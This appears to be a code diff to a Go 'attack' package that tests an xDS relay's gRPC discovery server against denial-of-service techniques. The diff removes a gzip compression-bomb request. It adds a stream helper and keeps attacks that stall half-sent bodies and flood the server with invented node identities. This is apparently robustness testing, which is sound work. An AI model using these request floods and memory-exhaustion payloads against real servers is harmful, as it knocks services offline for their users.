@@ -4,8 +4,8 @@ package attack
 
 import (
 	"bytes"
-	"compress/gzip"
 	"context"
+	"encoding/binary"
 	"errors"
 	"fmt"
 	"io"
@@ -21,7 +21,6 @@ import (
 	"google.golang.org/grpc"
 	"google.golang.org/grpc/metadata"
 	"google.golang.org/grpc/status"
-	"google.golang.org/protobuf/encoding/protowire"
 
 	"github.com/xds-relay/xds-relay/cache"
 )
@@ -73,6 +72,31 @@ func (c *client) ask(ctx context.Context, node string, requests ...*discovery.De
 	return s, end, nil
 }
 
+// first opens a stream, sends a request, and returns what comes first.
+func (c *client) first(ctx context.Context, node string, r *discovery.DeltaDiscoveryRequest) (*discovery.DeltaDiscoveryResponse, error) {
+	ctx, cancel := context.WithCancel(ctx)
+	defer cancel()
+	s, err := discovery.NewAggregatedDiscoveryServiceClient(c).DeltaAggregatedResources(ctx)
+	if err != nil {
+		return nil, err
+	}
+	r.Node = &core.Node{Id: node}
+	_ = s.Send(r) // the receiver is told why not
+	return s.Recv()
+}
+
+// asks is first on a connection of its own, within 10 s.
+func (w *world) asks(node string, at *target, r *discovery.DeltaDiscoveryRequest) (*discovery.DeltaDiscoveryResponse, error) {
+	c, err := dial(at)
+	if err != nil {
+		return nil, err
+	}
+	defer c.Close()
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+	return c.first(ctx, node, r)
+}
+
 // subscribe is a request for names of a type.
 func subscribe(t cache.TypeURL, names ...string) *discovery.DeltaDiscoveryRequest {
 	return &discovery.DeltaDiscoveryRequest{TypeUrl: string(t), ResourceNamesSubscribe: names}
@@ -91,54 +115,6 @@ func names(prefix string, n, length int) []string {
 		list[i] = name + strings.Repeat("x", max(length-len(name), 0))
 	}
 	return list
-}
-
-// hugeNode is a request whose node has so many empty values in its metadata: two bytes each, on the wire.
-func hugeNode(values int) []byte {
-	list := bytes.Repeat([]byte{0x0a, 0}, values) // ListValue.values, empty
-	in := func(n protowire.Number, b []byte) []byte {
-		return protowire.AppendBytes(protowire.AppendTag(nil, n, protowire.BytesType), b)
-	}
-	value := in(6, list)                                 // Value.list_value
-	entry := append(in(1, []byte("a")), in(2, value)...) // Struct.fields
-	node := in(3, in(1, entry))                          // Node.metadata
-	return in(1, node)                                   // DeltaDiscoveryRequest.node
-}
-
-// inflated sends compressed requests that are small on the wire and large in memory.
-func inflated(ctx context.Context, at *target) (string, error) {
-	var small bytes.Buffer
-	z, err := gzip.NewWriterLevel(&small, gzip.BestCompression)
-	if err != nil {
-		return "", err
-	}
-	const size = 60 << 20
-	if _, err := z.Write(hugeNode(size / 2)); err != nil {
-		return "", err
-	}
-	if err := z.Close(); err != nil {
-		return "", err
-	}
-	said := ""
-	for range 4 {
-		r, err := dialRaw(ctx, at)
-		if err != nil {
-			return "", err
-		}
-		id, err := r.open(deltaMethod, "grpc-encoding", "gzip")
-		if err == nil {
-			_ = r.data(id, envelope(small.Bytes(), true)) // it may be refused before all is sent
-		}
-		for said == "" && ctx.Err() == nil {
-			if v, ok := r.status.Load(id); ok {
-				said = v.(string)
-			} else {
-				pause(ctx, 10*time.Millisecond)
-			}
-		}
-	}
-	<-ctx.Done()
-	return fmt.Sprintf("%d bytes each; told: %s", small.Len(), said), nil
 }
 
 // pause waits, or until an attack is over.
@@ -204,16 +180,17 @@ func halfSent(messages, size, each int) func(context.Context, *target) (string, 
 		var ends sync.Map
 		var all sync.WaitGroup
 		var t *http.Transport
+		head := envelope(make([]byte, size-1), false)
+		binary.BigEndian.PutUint32(head[1:], uint32(size))
 		for i := range messages {
 			if i%each == 0 {
 				t = transport(at)
 			}
 			t := t
 			all.Go(func() {
-				head := envelope(make([]byte, size), false)
 				never, stop := io.Pipe()
 				defer stop.Close()
-				err := post(ctx, at, t, body{io.MultiReader(bytes.NewReader(head[:len(head)-1]), never), &sent})
+				err := post(ctx, at, t, body{io.MultiReader(bytes.NewReader(head), never), &sent})
 				if err != nil && ctx.Err() == nil {
 					ends.Store(err.Error(), true)
 				}
@@ -247,10 +224,10 @@ func ways(value string) func(context.Context, *target) (string, error) {
 }
 
 // again opens a stream as often as it ends.
-func (c *client) again(ctx context.Context, r *discovery.DeltaDiscoveryRequest) (string, error) {
+func (c *client) again(ctx context.Context, requests ...*discovery.DeltaDiscoveryRequest) (string, error) {
 	said, ends := "", 0
 	for ctx.Err() == nil {
-		_, ended, err := c.ask(ctx, "attacker", r)
+		_, ended, err := c.ask(ctx, "attacker", requests...)
 		if err == nil {
 			err = <-ended
 		}
@@ -376,7 +353,7 @@ func inventedNodes(n int) func(context.Context, *target) (string, error) {
 			c := c
 			all.Go(func() {
 				for ctx.Err() == nil {
-					_, ended, err := c.ask(ctx, fmt.Sprint("invented-", i), subscribe(cache.Endpoint, beat))
+					_, ended, err := c.ask(ctx, fmt.Sprint("invented-", i), subscribe(cache.Endpoint, "a"))
 					if err == nil {
 						err = <-ended
 					}
